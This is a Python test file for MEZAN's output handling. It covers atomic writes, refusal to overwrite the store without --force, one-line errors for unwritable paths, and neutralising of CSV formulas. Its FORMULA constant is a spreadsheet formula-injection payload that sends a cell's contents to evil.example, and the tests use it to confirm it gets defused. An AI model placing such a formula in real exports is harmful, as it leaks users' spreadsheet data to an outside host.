"""Every file a command writes (issue 34, classes 5 and 8): one check before the work, one atomic write after it
(:mod:`mezan.outputs`). The store and its companions are never overwritten, an existing file only with --force, an
output that cannot be written is a one-line error naming the option and the path — and CSV cells never start a
spreadsheet formula."""

import contextlib
import csv
import io
import os
import shutil
import sqlite3
import stat
from pathlib import Path

import pytest

from mezan.bench.experiments import Plan, run_experiment
from mezan.bench.registry import Registry
from mezan.cli import main
from mezan.errors import InvalidParameterError
from mezan.outputs import (
    check_output,
    check_output_folder,
    csv_text,
    spreadsheet_safe,
    write_atomic,
    write_csv,
)
from mezan.qap import instances as bundled
from mezan.store import Store, default_path

FORMULA = '=HYPERLINK("evil.example?leak="&A1,"click")'  # a file name: no slash


def _leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".partial"))


@pytest.fixture
def experiment():
    """A small experiment in the default store ($MEZAN_HOME/mezan.db) whose instance is named by a formula."""
    folder = default_path().parent.parent / "instances"
    folder.mkdir(parents=True)
    shutil.copy(bundled.instance_path("nug12"), folder / f"{FORMULA}.dat")
    registry = Registry()
    run_experiment(Plan([str(folder)], ["rots"], seeds=1, time_limit=30.0, max_iter=50), registry=registry, name="e1")
    return registry


def _experiments(store: Path) -> int:
    """OptiBench experiments in a store file (0 when there is no file or no OptiBench table yet)."""
    if not store.exists():
        return 0
    db = sqlite3.connect(f"{store.as_uri()}?mode=ro", uri=True)
    try:
        if not db.execute("SELECT 1 FROM sqlite_master WHERE name = 'bench_experiments'").fetchone():
            return 0
        return db.execute("SELECT COUNT(*) FROM bench_experiments").fetchone()[0]
    finally:
        db.close()


# ---- the rules ------------------------------------------------------------------------------------------------
def test_the_store_and_its_companions_are_refused_by_name_even_with_force(tmp_path):
    Store()  # the default store exists, with its key beside it
    home = default_path()
    mine = tmp_path / "mine.db"
    other = tmp_path / "other.sqlite"
    with contextlib.closing(sqlite3.connect(other)) as db:  # any SQLite database, not only MEZAN's
        db.execute("CREATE TABLE t (x)")
        db.commit()
    (tmp_path / "link.csv").symlink_to(home)
    os.link(home, tmp_path / "hard.csv")
    targets = [home, Path(f"{home}-wal"), Path(f"{home}-shm"), Path(f"{home}.key"), tmp_path / "link.csv",
               tmp_path / "hard.csv", other, Path(f"{other}-wal"), mine, Path(f"{mine}-shm")]
    for target in targets:
        for force in (False, True):
            with pytest.raises(InvalidParameterError, match=r"^--latex: cannot write .*never overwritten, not even "
                                                            r"with --force"):
                check_output(target, option="--latex", force=force, store=mine)
    with pytest.raises(InvalidParameterError, match="folder of MEZAN's store"):
        check_output_folder(home.parent, force=True)
    assert home.read_bytes()[:16] == b"SQLite format 3\x00"  # untouched


def test_an_existing_file_is_replaced_only_with_force_atomically_and_keeps_its_mode(tmp_path):
    target = tmp_path / "report.html"
    assert write_atomic(target, "one") == target
    with pytest.raises(InvalidParameterError, match=r"^--out: cannot write .*report.html: the file exists; add "
                                                    r"--force to overwrite it$"):
        write_atomic(target, "two")
    assert target.read_text() == "one"
    target.chmod(0o640)
    write_atomic(target, b"two", force=True)
    assert target.read_text() == "two" and stat.S_IMODE(target.stat().st_mode) == 0o640
    assert _leftovers(tmp_path) == []

    def broken(path):
        path.write_text("half")
        raise OSError(28, "No space left on device")

    with pytest.raises(InvalidParameterError, match=r"cannot write .*No space left on device"):
        write_atomic(target, broken, force=True)
    assert target.read_text() == "two" and _leftovers(tmp_path) == []  # the old file stays, nothing is left over


def test_places_that_cannot_be_written_are_one_line_errors_naming_the_option(tmp_path):
    (tmp_path / "a-file").write_text("x")
    cases = {tmp_path / "missing" / "out.csv": "the folder .*missing does not exist",
             tmp_path: "it is a folder; give the path of a file",
             tmp_path / "a-file" / "out.csv": "a-file is not a folder",
             "/dev/full": "it is a device or a pipe; add --force",
             "": "expected a file path",
             "bad\0name": "cannot write"}
    for path, message in cases.items():
        with pytest.raises(InvalidParameterError, match=f"^--selections: .*{message}"):
            check_output(path, option="--selections")
    with pytest.raises(InvalidParameterError, match=r"^--out: cannot write /dev/full: No space left on device"):
        write_atomic("/dev/full", "x" * 100_000, force=True)
    with pytest.raises(InvalidParameterError, match="not empty; add --force"):
        check_output_folder(tmp_path, option="DIRECTORY")
    assert check_output_folder(tmp_path, option="DIRECTORY", force=True) == tmp_path.resolve()
    with pytest.raises(InvalidParameterError, match="exists and is not a folder"):
        check_output_folder(tmp_path / "a-file")


def test_a_read_only_folder_is_refused_before_the_work(tmp_path, monkeypatch):
    folder = tmp_path / "read-only"
    folder.mkdir()
    folder.chmod(0o500)
    if os.geteuid() == 0:  # root may write anyway: the check asks the system, so the system is asked to say no
        monkeypatch.setattr(os, "access", lambda path, mode: Path(path) != folder)
    with pytest.raises(InvalidParameterError, match=r"the folder .*read-only is not writable"):
        check_output(folder / "out.csv")


# ---- CSV cells ---------------------------------------------------------------------------------------------------
def test_csv_text_cells_never_start_a_formula_and_numbers_stay_numbers():
    for text in ("=1+2", "+1+2", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1+2", FORMULA):
        assert spreadsheet_safe(text) == "'" + text
    for value in (-1.5, -3, 0, "-1.5", "+2", "plain", "a=b", None, ""):
        assert spreadsheet_safe(value) == value
    text = csv_text(["instance", "objective"], [{"instance": FORMULA, "objective": -578.0}, {"instance": "nug12"}])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [["instance", "objective"], ["'" + FORMULA, "-578.0"], ["nug12", ""]]


def test_write_csv_is_the_atomic_writer(tmp_path):
    path = write_csv(tmp_path / "t.csv", ["a"], [{"a": "=x"}])
    assert path.read_bytes() == b"a\r\n'=x\r\n"
    with pytest.raises(InvalidParameterError, match="exists; add --force"):
        write_csv(tmp_path / "t.csv", ["a"], [])


# ---- every command's outputs ---------------------------------------------------------------------------------------
def test_bench_export_and_report_never_overwrite_the_store(experiment, capsys):
    store = default_path()
    before = store.read_bytes()[:16]
    for argv in (["export", "e1", "--out", str(store)], ["export", "e1", "--out", str(store), "--force"],
                 ["export", "e1", "--format", "parquet", "--out", f"{store}-wal", "--force"],
                 ["report", "e1", "--out", str(store), "--force"],
                 ["report", "e1", "--out", str(store.parent.parent / "r.html"), "--latex", f"{store}.key"]):
        assert main(["bench", *argv]) == 2, argv
        err = capsys.readouterr().err.strip()
        assert err.startswith("mezan: error: --") and "never overwritten" in err and "\n" not in err
    assert store.read_bytes()[:16] == before and _experiments(store) == 1
    assert not (store.parent.parent / "r.html").exists()  # refused before anything was written


def test_bench_export_needs_force_over_a_file_and_neutralises_formulas(experiment, tmp_path, capsys):
    out = tmp_path / "runs.csv"
    out.write_text("keep me")
    assert main(["bench", "export", "e1", "--out", str(out)]) == 2
    assert "--out: cannot write" in capsys.readouterr().err and out.read_text() == "keep me"
    assert main(["bench", "export", "e1", "--out", str(out), "--force"]) == 0
    rows = list(csv.DictReader(io.StringIO(out.read_text(), newline="")))
    assert [r["instance"] for r in rows] == ["'" + FORMULA] and float(rows[0]["objective"]) > 0
    assert main(["bench", "export", "e1", "--out", str(tmp_path / "no" / "runs.csv")]) == 2
    assert "the folder" in capsys.readouterr().err
    scenario = tmp_path / "scenario"
    assert main(["bench", "export", "e1", "--format", "aslib", "--out", str(scenario)]) == 0
    assert main(["bench", "export", "e1", "--format", "aslib", "--out", str(scenario)]) == 2
    assert "not empty; add --force" in capsys.readouterr().err
    assert main(["bench", "export", "e1", "--format", "aslib", "--out", str(scenario), "--force"]) == 0
    assert main(["bench", "export", "e1", "--format", "aslib", "--out", str(default_path().parent)]) == 2
    assert "folder of MEZAN's store" in capsys.readouterr().err


def test_study_out_is_refused_before_the_study_runs(tmp_path, capsys):
    store = tmp_path / "study.db"
    for out, message in ((tmp_path / "missing" / "r.html", "does not exist"), (tmp_path, "is a folder"),
                         (store, "never overwritten"), ("/dev/full", "device or a pipe")):
        if out == store:
            Store(store)
        assert main(["study", "--solvers", "rots,anneal", "--instances", "generated:taillard_a:8:0-3", "--time",
                     "0.1", "--out", str(out), "--store", str(store)]) == 2
        err = capsys.readouterr().err
        assert err.startswith("mezan: error: --out: cannot write") and message in err
        assert _experiments(store) == 0  # nothing ran


def test_aslib_commands_refuse_their_outputs_before_the_work(tmp_path, capsys):
    Store()
    assert main(["meta", "aslib", "export", str(default_path().parent)]) == 2
    assert "DIRECTORY: cannot write" in capsys.readouterr().err
    full = tmp_path / "full"
    full.mkdir()
    (full / "notes.txt").write_text("mine")
    assert main(["meta", "aslib", "export", str(full)]) == 2
    assert "not empty; add --force" in capsys.readouterr().err
    selections = tmp_path / "selections.json"
    selections.write_text("{}")
    assert main(["meta", "aslib", "evaluate", str(full), "--selections", str(selections)]) == 2
    assert "--selections: cannot write" in capsys.readouterr().err and selections.read_text() == "{}"
    assert main(["meta", "aslib", "evaluate", str(full), "--selections", str(default_path())]) == 2
    assert "never overwritten" in capsys.readouterr().err
